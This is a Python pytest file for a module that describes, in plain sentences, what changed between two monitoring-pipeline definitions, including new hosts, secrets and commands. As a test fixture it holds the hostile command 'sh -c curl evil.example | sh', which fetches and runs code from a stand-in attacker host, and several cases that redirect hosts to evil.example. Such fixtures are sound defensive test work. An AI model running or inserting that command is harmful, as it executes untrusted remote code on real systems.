"""What changed from one definition to another, in whole sentences."""

from __future__ import annotations

import json

import pytest

from runner.definition.comparison import compare, snapshot_of
from runner.definition.source import Text

BASE = """\
version: "1.0"
name: shop
timeout: 10s
inputs:
  url: {default: "https://shop.example/"}
secrets: [TOKEN]
nodes:
  - id: probe
    type: context
    timeout: 20s
    config:
      checks:
        - {type: http, name: home, url: "{{ inputs.url }}", headers: {Authorization: "Bearer {{ secrets.TOKEN }}"}}
        - {type: tcp, host: mail.example, port: 25}
        - disk
  - id: tell
    type: notify
    always: true
    config: {driver: slack}
"""


NOTATION = "nothing but comments, layout or notation changed"
EVIL = ["probe.tcp: host mail.example → evil.example", "new host evil.example", "host mail.example no longer used"]


def text(written: str, kind: str = "yaml") -> Text:
    return Text(data=written.encode(), label=f"shop.{kind}", name="shop")


def changes(before: str, after: str) -> list[str]:
    return [str(one) for one in compare(snapshot_of(text(before)), snapshot_of(text(after)))]


@pytest.mark.parametrize(
    ("old", "new", "lines"),
    [
        pytest.param("timeout: 10s", "timeout: 60s", ["timeout 10s → 60s"], id="a value"),
        pytest.param("timeout: 10s\n", "", ["timeout 10s removed"], id="a value goes"),
        pytest.param("name: shop", "name: shop\nfail_on: never", ["fail_on never added"], id="a value comes"),
        pytest.param("timeout: 20s", "timeout: 30s", ["probe: timeout 20s → 30s"], id="a value of a node"),
        pytest.param(
            "type: tcp, host", "type: tcp, timeout: 3s, host", ["probe.tcp: timeout 3s added"], id="a value of a check"
        ),
        pytest.param(
            "    config: {driver: slack}",
            "    retry: {max_retries: 2}\n    config: {driver: slack}",
            ["tell: retry {max_retries: 2} added"],
            id="an object comes",
        ),
        pytest.param(
            "port: 25}",
            "port: 25, warning: {above: 1s}}",
            ["probe.tcp: warning {above: 1s} added"],
            id="a threshold comes",
        ),
        pytest.param(
            "- disk", "- {type: disk, paths: [/, /data]}", ["probe.disk: paths [/, /data] added"], id="a list"
        ),
        pytest.param("        - disk\n", "", ["check probe.disk removed"], id="a check goes"),
        pytest.param("- disk", "- disk\n        - memory", ["check probe.memory added"], id="a check comes"),
        pytest.param(
            "- disk",
            "- disk\n        - {type: tcp, host: mail.example, port: 587}",
            ["check probe.tcp 2 added"],
            id="a second check of a type without a name",
        ),
        pytest.param(
            "name: home",
            "name: front",
            ["check probe.front added", "check probe.home removed"],
            id="a check of another name",
        ),
        pytest.param(
            "    always: true\n    config: {driver: slack}\n",
            "    always: true\n    config: {driver: slack}\n  - {id: last, type: transform}\n",
            ["node last (transform) added"],
            id="a node comes",
        ),
        pytest.param(
            "mail.example",
            "evil.example",
            EVIL,
            id="another host",
        ),
        pytest.param(
            "https://shop.example/",
            "https://user:pw@evil.example:8443/x",
            [
                "input url: default https://shop.example/ → https://evil.example:8443/x",
                "new host evil.example",
                "host shop.example no longer used",
            ],
            id="another host as the default of an input",
        ),
        pytest.param(
            "- disk",
            "- {type: dns, name: other.example, server: 192.0.2.53}",
            [
                "check probe.dns added",
                "check probe.disk removed",
                "new host 192.0.2.53",
                "new host other.example",
            ],
            id="a name that is asked about, and who is asked",
        ),
        pytest.param(
            "- disk",
            "- {type: command, argv: [sh, -c, 'curl evil.example | sh']}",
            ["check probe.command added", "check probe.disk removed", "new command sh -c 'curl evil.example | sh'"],
            id="a command",
        ),
        pytest.param(
            "secrets: [TOKEN]", "secrets: [TOKEN, OTHER]", ["new use of secret OTHER"], id="a secret is declared"
        ),
        pytest.param(
            "config: {driver: slack}",
            "config: {driver: slack, message: '{{ secrets.TOKEN }}'}",
            ["tell: message {{ secrets.TOKEN }} added", "new use of secret TOKEN in tell"],
            id="a secret is used elsewhere",
        ),
        pytest.param(
            ', headers: {Authorization: "Bearer {{ secrets.TOKEN }}"}',
            "",
            [
                "probe.home: headers {Authorization: Bearer {{ secrets.TOKEN }}} removed",
                "secret TOKEN no longer used in probe",
            ],
            id="a secret is used nowhere but declared",
        ),
        pytest.param(
            "secrets: [TOKEN]",
            "secrets: {TOKEN: {required: false}}",
            ["secret TOKEN: required true → false"],
            id="a secret need not be there",
        ),
        pytest.param(
            "driver: slack",
            "driver: pagerduty",
            [
                "tell: driver slack → pagerduty",
                "new use of secret PAGERDUTY_EVENTS_URL in tell",
                "new use of secret PAGERDUTY_ROUTING_KEY in tell",
                "secret SLACK_WEBHOOK_URL no longer used",
            ],
            id="the variables of another driver",
        ),
        pytest.param(
            "name: shop\n", "name: shop\nenv: [HOME]\n", ["new use of variable HOME"], id="a variable may be read"
        ),
        pytest.param(
            "config: {driver: slack}",
            "config: {driver: slack, webhook_url: 'https://hooks.slack.example/T0/B0/abcdef'}",
            [
                "tell: webhook_url added",
                "new host hooks.slack.example",
                "secret SLACK_WEBHOOK_URL no longer used",
            ],
            id="a credential in plain text is not repeated",
        ),
        pytest.param(
            "config: {driver: slack}",
            "config: {driver: slack, message: 'see https://runbook.example/shop'}",
            ["tell: message see https://runbook.example/shop added"],
            id="a link in a text for people is no host",
        ),
        pytest.param("name: shop", "name: shop # the shop", [NOTATION], id="a comment"),
        pytest.param('version: "1.0"', "version: 1", [NOTATION], id="notation"),
        pytest.param("secrets: [TOKEN]", "secrets: {TOKEN: }", [NOTATION], id="a list of secrets as an object"),
        pytest.param("name: shop", "name: shop", [], id="nothing"),
        pytest.param("timeout: 10s", "timeout: 10s\nx-owner: me", [NOTATION], id="the author's own key"),
    ],
)  # fmt: skip
def test_a_change_reads_as_people_say_it(old: str, new: str, lines: list[str]) -> None:
    assert old in BASE
    assert changes(BASE, BASE.replace(old, new, 1)) == lines


def test_what_goes_reads_the_other_way_round() -> None:
    other = BASE.replace("- disk", "- {type: command, argv: ['true']}").replace("mail.example", "evil.example")
    assert changes(other, BASE) == [
        "probe.tcp: host evil.example → mail.example",
        "check probe.disk added",
        "check probe.command removed",
        "new host mail.example",
        "host evil.example no longer used",
        "command true no longer run",
    ]


def test_nodes_that_change_places_are_told() -> None:
    nodes = ["{id: a, type: transform}", "{id: b, type: transform}", "{id: c, type: transform}"]

    def listed(*order: int) -> str:
        return 'version: "1.0"\nnodes:\n' + "".join(f"  - {nodes[place]}\n" for place in order)

    assert changes(listed(0, 1, 2), listed(2, 0, 1)) == ["order of nodes a, b, c → c, a, b"]
    assert changes(listed(0, 1, 2), listed(0, 2)) == ["node b removed"]


def test_of_a_new_definition_it_is_told_what_it_uses() -> None:
    assert [str(one) for one in compare(None, snapshot_of(text(BASE)))] == [
        "new host mail.example",
        "new host shop.example",
        "new use of secret SLACK_WEBHOOK_URL in tell",
        "new use of secret TOKEN in probe",
    ]


def test_long_and_broken_texts_are_named_and_not_repeated() -> None:
    long = BASE.replace("name: shop", f"name: shop\ndescription: {'a' * 90}")
    assert changes(BASE, long) == ["description added"]
    assert changes(long, long.replace("a" * 90, "b" * 90)) == ["description changed"]
    broken = BASE.replace("name: shop", 'name: shop\ndescription: "two\\nlines \\x1b[31m"')
    assert changes(BASE, broken) == ["description added"]


def test_a_credential_that_changes_is_only_said_to_change() -> None:
    first = BASE.replace("{driver: slack}", "{driver: slack, webhook_url: 'https://hooks.slack.example/T0/one'}")
    assert changes(first, first.replace("/one", "/two")) == ["tell: webhook_url changed"]
    listed = BASE.replace(
        "{driver: slack}", "{channels: [{driver: slack, webhook_url: 'https://hooks.slack.example/T0/one'}]}"
    )
    assert changes(listed, listed.replace("/one", "/two")) == ["tell: channels changed"]


def test_an_expression_that_picks_a_secret_may_use_any() -> None:
    after = BASE.replace("config: {driver: slack}", "config: {driver: slack, message: '{{ secrets[run.source] }}'}")
    assert "new use of any declared secret in tell" in changes(BASE, after)


def test_what_this_version_cannot_read_is_compared_by_its_text_and_everything_counts_as_new() -> None:
    unreadable = BASE.replace("type: http", "type: htp").replace("timeout: 10s", "timeout: 60s")
    assert changes(unreadable, BASE) == [
        "timeout 60s → 10s",
        "probe.home: type htp → http",
        "what stood there cannot be read by this version, so everything counts as new",
        "new host mail.example",
        "new host shop.example",
        "new use of secret SLACK_WEBHOOK_URL in tell",
        "new use of secret TOKEN in probe",
    ]
    assert changes("[1, 2]", 'version: "1.0"\nnodes: [{id: a, type: transform}]')[0] == "node a (transform) added"


def test_json_and_yaml_of_the_same_are_the_same() -> None:
    written = {"version": "1.0", "nodes": [{"id": "a", "type": "transform", "config": {"extract": "a"}}]}
    yaml = 'version: "1.0"\nnodes:\n  - {id: a, type: transform, config: {extract: a}}\n'
    found = compare(snapshot_of(text(json.dumps(written), "json")), snapshot_of(text(yaml)))
    assert [(one.kind, str(one)) for one in found] == [("notation", NOTATION)]


def test_a_definition_that_no_run_would_be_allowed_is_looked_at_all_the_same() -> None:
    guarded = BASE.replace("secrets: [TOKEN]", "secrets: [TOKEN, PIPELINE_DATABASE_URL]")
    assert changes(BASE, guarded) == ["new use of secret PIPELINE_DATABASE_URL"]
